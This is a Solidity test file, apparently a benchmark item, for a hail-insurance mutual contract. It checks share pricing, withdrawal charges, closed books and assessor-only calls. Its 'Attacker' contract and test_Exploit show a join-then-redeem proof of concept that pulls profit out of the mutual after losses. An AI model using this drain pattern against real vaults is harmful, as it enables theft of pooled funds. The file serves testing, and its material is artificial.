// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-07d0b6ee-1f7e-4dc7-9ab0-bf9afadbb2c7

import "./HailMutual.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Franc is IERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

contract Grower {
    HailMutual internal mutual;

    constructor(HailMutual mutual_, Franc franc) {
        mutual = mutual_;
        franc.approve(address(mutual_), type(uint256).max);
    }

    function join(uint256 assets) external {
        mutual.join(assets);
    }

    function insure(uint256 cover) external {
        mutual.insure(cover);
    }

    function withdraw(uint256 assets) external {
        mutual.withdraw(assets, address(this), type(uint256).max);
    }

    function redeem(uint256 shares, uint256 least) external {
        mutual.redeem(shares, address(this), least);
    }
}

/// Anyone with some money. Joins and leaves at once.
contract Attacker {
    function turn(HailMutual mutual, Franc franc) external {
        uint256 assets = franc.balanceOf(address(this));
        franc.approve(address(mutual), assets);
        uint256 shares = mutual.join(assets);
        mutual.redeem(shares, address(this), 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    Franc public franc;
    HailMutual public mutual;
    Grower public member;
    Grower public orchard;
    Attacker public guest;

    function setUp() public {
        vm.warp(START);
        franc = new Franc();
        mutual = new HailMutual(franc, address(this));
        member = new Grower(mutual, franc);
        orchard = new Grower(mutual, franc);
        guest = new Attacker();
        franc.mint(address(member), 96_000e6);
        franc.mint(address(orchard), 4_000e6);
        franc.mint(address(guest), 50_000e6);
        member.join(96_000e6);
        orchard.insure(60_000e6); // premium 2400

        // A bad summer: the capital falls to 76,400 of 96,000 shares' worth, then lower.
        mutual.closeBooks(true);
        vm.warp(START + 100 days);
        mutual.payClaim(address(orchard), 22_000e6);
        mutual.payClaim(address(orchard), 9_200e6);
        mutual.closeBooks(false);
    }

    function _near(uint256 a, uint256 b) internal pure returns (bool) {
        return a + 100 >= b && b + 100 >= a;
    }

    function test_Regular() public {
        require(mutual.capital() == 67_200e6 && mutual.totalShares() == 96_000e6, "after the summer");
        require(_near(mutual.assetsFor(10_000e6), 7_000e6), "value of a share");
        require(_near(mutual.sharesFor(7_000e6), 10_000e6), "shares for money");

        // A member leaves with a part, the charge stays.
        member.withdraw(7_000e6);
        require(_near(franc.balanceOf(address(member)), 6_650e6), "money after the charge");
        require(_near(mutual.sharesOf(address(member)), 86_000e6), "shares given up");
        require(_near(mutual.capital(), 60_550e6), "charge stayed");

        try mutual.strike(address(orchard)) {
            revert("struck a running policy");
        } catch {}

        // Bounds hold on both ways out.
        try mutual.redeem(1, address(this), 0) {
            revert("no shares");
        } catch {}
        try member.redeem(10_000e6, 8_000e6) {
            revert("below the least value");
        } catch {}

        // Books are closed when hail is near.
        mutual.closeBooks(true);
        try member.withdraw(1e6) {
            revert("left with closed books");
        } catch {}
        try orchard.insure(1e6) {
            revert("insured with closed books");
        } catch {}
        mutual.closeBooks(false);

        // Premiums bring a share back to one unit, and then both ways out are the same.
        try orchard.insure(70_000e6) {
            revert("more cover than capital");
        } catch {}
        orchard.insure(40_000e6);
        require(_near(mutual.capital(), 62_150e6), "premium is capital");
        franc.mint(address(this), 1e12);
        franc.approve(address(mutual), type(uint256).max);
        for (uint256 i = 0; i < 15; i++) {
            mutual.insure(mutual.capital() - mutual.covered() + _cover());
        }
        require(mutual.assetsFor(1e6) > 0.75e6, "premiums raise the value");

        // A young society: leaving with all shares, less the charge.
        HailMutual young = new HailMutual(franc, address(this));
        Grower first = new Grower(young, franc);
        franc.mint(address(first), 500e6);
        first.join(500e6);
        first.redeem(500e6, 500e6);
        require(franc.balanceOf(address(first)) == 475e6, "redeemed less the charge");

        vm.warp(START + 1000 days);
        try mutual.payClaim(address(orchard), 1e6) {
            revert("paid after the term");
        } catch {}
        mutual.strike(address(orchard));
        require(mutual.covered() == _cover(), "cover is free again");
    }

    function _cover() internal view returns (uint256 cover) {
        (cover,) = mutual.policies(address(this));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Claims and books are the assessor's.
    function test_RefusesStrangers() public {
        refuses(address(member), HailMutual.OnlyAssessor.selector);
        mutual.payClaim(address(orchard), 1);
        refuses(address(member), HailMutual.OnlyAssessor.selector);
        mutual.closeBooks(true);
        vm.expectRevert(HailMutual.NotCovered.selector);
        mutual.payClaim(address(orchard), 28_800e6 + 1);
        vm.expectRevert(HailMutual.NothingIssued.selector);
        mutual.join(0);
        uint256 shares = mutual.sharesToLeaveWith(7_000e6);
        refuses(address(member), abi.encodeWithSelector(HailMutual.LessThanAsked.selector, 1, shares));
        mutual.withdraw(7_000e6, address(member), 1);
        mutual.closeBooks(true);
        refuses(address(guest), HailMutual.BooksAreClosed.selector);
        mutual.join(1e6);
        refuses(address(member), HailMutual.BooksAreClosed.selector);
        mutual.redeem(1, address(member), 0);
    }

    function exploit() public {
        guest.turn(mutual, franc);
    }

    function test_Exploit() public {
        uint256 before = franc.balanceOf(address(guest));
        exploit();
        require(franc.balanceOf(address(guest)) >= before + 17_800e6, "no gain");
    }

    function target() public view returns (address) {
        return address(mutual);
    }

    function attacker() public view returns (address) {
        return address(guest);
    }
}
